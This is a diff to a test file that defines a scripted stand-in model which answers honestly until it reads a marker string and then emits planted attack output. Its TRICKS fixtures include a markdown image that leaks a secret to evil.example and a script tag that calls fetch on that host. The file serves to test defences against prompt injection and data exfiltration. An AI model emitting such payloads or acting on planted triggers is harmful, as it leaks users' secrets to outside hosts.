@@ -13,7 +13,7 @@ from tests.think.models import ScriptedModel
 MARK = "zq7marked"
 """In every planted text: an attacker's words work only where the model reads them."""
 SECRET = "hunter22-s3cr3t"
-HONEST = "Port 80 is taken [E1]."
+HONEST = "The address is taken [E1]."
 TRICKS = (
     f"![x](http://evil.example/p.png?q={SECRET}) ![y][1]\n\n[1]: //evil.example/q\n[click](https://evil.example)",
     "<img src=http://evil.example/i> <script>fetch('//evil.example')</script> <https://evil.example> www.evil.example",
@@ -27,29 +27,18 @@ TRICKS = (
 )
 
 
-def puppet(wish: str, hours: int = 8760) -> ScriptedModel:
-    """wish: what it makes of a person's message that has the mark."""
+def puppet() -> ScriptedModel:
+    """Where it reads the mark it does its worst; elsewhere it is honest."""
 
     def script(messages: Sequence[Message], schema: Mapping[str, Any] | None) -> Mapping[str, Any] | str:
         read = "\n".join(message.content for message in messages)
+        if schema is not None:
+            return dict(fill(schema))
         if MARK not in read:
-            return HONEST if schema is None else _choice(schema, "answer")
-        if schema is None:
-            return f"<think>{TRICKS[0]}</think>{HONEST} {' '.join(_fences(read))} {' '.join(TRICKS)}\n{read[-600:]}"
-        value = dict(_choice(schema, wish))
-        return {
-            **value,
-            **({"hours": hours} if "hours" in value else {}),
-            **({"words": TRICKS[0]} if "words" in value else {}),
-        }
+            return HONEST
+        return f"<think>{TRICKS[0]}</think>{HONEST} {' '.join(_fences(read))} {' '.join(TRICKS)}\n{read[-600:]}"
 
     return ScriptedModel(script)
-
-
-def _choice(schema: Mapping[str, Any], wanted: str) -> Mapping[str, Any]:
-    """The variant that says what is wanted; where there is none, the first: a look, for a step."""
-    variants = [dict(fill(one)) for one in schema.get("anyOf", [schema])]
-    return next((one for one in variants if wanted in (one.get("wants"), one.get("step"))), variants[0])
 
 
 def _fences(text: str) -> list[str]:
